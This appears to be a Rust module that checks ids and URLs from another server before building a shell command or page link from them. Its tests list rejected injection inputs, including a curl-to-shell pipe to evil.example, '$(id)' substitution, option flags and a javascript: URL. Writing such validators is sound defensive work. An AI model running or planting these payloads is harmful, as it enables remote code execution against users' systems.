//! Values of another server that become part of an instruction: a command to type, or a page to open. A server is not trusted with either.

/// Returns the command by which the operator of an m2m server finds a refusal, if the id can be one of such a server.
pub fn diagnose_command(trace_id: &str) -> Option<String> {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
    let is_id = trace_id.len() <= MAX_ID_BYTES && trace_id.bytes().all(is_plain);
    let is_word = is_id && !trace_id.starts_with('-') && !trace_id.is_empty();
    is_word.then(|| format!("m2m diagnose {trace_id}"))
}

/// Returns the address of a page, if it is one of the web, without anything that a shell or a reader could take for something else.
pub fn page(url: &str) -> Option<&str> {
    let rest = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))?;
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~:/?#@!+,=%".contains(&byte);
    let is_page = url.len() <= MAX_URL_BYTES && !rest.is_empty() && rest.bytes().all(is_plain);
    is_page.then_some(url)
}

/// Ids of m2m servers have 32 bytes.
const MAX_ID_BYTES: usize = 128;
const MAX_URL_BYTES: usize = 512;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn x29_an_id_of_another_server_is_neither_an_option_nor_a_command() {
        let id = "500641c33932a8c07d6c4ffea453a211";
        assert_eq!(diagnose_command(id), Some(format!("m2m diagnose {id}")));
        for id in [
            "",
            "-h",
            "--data=x",
            "a b",
            "$(id)",
            "a;b",
            &"a".repeat(129),
        ] {
            assert_eq!(diagnose_command(id), None, "{id}");
        }
    }

    #[test]
    fn x29_a_page_of_another_server_is_an_address_and_nothing_else() {
        for url in [
            "https://id.example/errors/invalid_scope",
            "http://127.0.0.1:8099/a?b=c#d",
        ] {
            assert_eq!(page(url), Some(url));
        }
        for url in [
            "",
            "https://",
            "; curl https://evil.example/x | sh",
            "https://evil.example/a$(id)",
            "https://evil.example/a\n  to do  run: curl",
            "https://evil.example/a b",
            "javascript:alert(1)",
        ] {
            assert_eq!(page(url), None, "{url}");
        }
    }
}
